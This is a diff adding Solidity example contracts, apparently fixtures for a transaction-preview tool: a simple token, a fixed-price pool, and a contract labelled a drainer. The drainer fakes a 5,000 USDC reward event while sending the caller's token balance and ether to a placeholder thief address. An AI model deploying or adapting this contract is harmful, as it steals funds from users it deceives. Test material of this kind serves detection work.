@@ -1,0 +1,71 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.30;
+
+// What the examples of the preview call. They stand at the addresses that examples.ts names; nothing is checked that an
+// example does not need.
+
+interface IToken {
+    function balanceOf(address owner) external view returns (uint256);
+    function transfer(address to, uint256 value) external returns (bool);
+    function transferFrom(address from, address to, uint256 value) external returns (bool);
+}
+
+IToken constant PLUMB = IToken(0x7e57c0dE00000000000000000000000000007E57);
+IToken constant GOLD = IToken(0x601D000000000000000000000000000000000001);
+
+/// A plain token. Storage: balances at slot 0.
+contract Gold {
+    mapping(address => uint256) public balanceOf;
+    string public constant symbol = "GOLD";
+    uint8 public constant decimals = 18;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        balanceOf[msg.sender] -= value;
+        balanceOf[to] += value;
+        emit Transfer(msg.sender, to, value);
+        return true;
+    }
+}
+
+/// Sells GOLD at fixed prices: 3 for an ether, 1 for 2 PLUMB.
+contract Pool {
+    event Sold(address indexed buyer, uint256 bought);
+
+    error TooLittle(uint256 bought, uint256 wanted);
+
+    function buy(uint256 wanted) external payable {
+        sell(msg.value * 3, wanted);
+    }
+
+    function swap(uint256 amount, uint256 wanted) external {
+        PLUMB.transferFrom(msg.sender, address(this), amount);
+        sell(amount / 2, wanted);
+    }
+
+    function sell(uint256 bought, uint256 wanted) private {
+        if (bought < wanted) revert TooLittle(bought, wanted);
+        GOLD.transfer(msg.sender, bought);
+        emit Sold(msg.sender, bought);
+    }
+}
+
+/// A drainer. It says that the caller gets 5 000 USDC, gives nothing, and takes what it may.
+contract Reward {
+    string public constant symbol = "USDC";
+    uint8 public constant decimals = 6;
+    address payable constant THIEF = payable(0x00000000000000000000000000000baD00000Bad);
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    function balanceOf(address) external pure returns (uint256) {
+        return 0;
+    }
+
+    function claim() external payable {
+        emit Transfer(address(0), msg.sender, 5000e6);
+        PLUMB.transferFrom(msg.sender, THIEF, PLUMB.balanceOf(msg.sender));
+        THIEF.transfer(msg.value);
+    }
+}
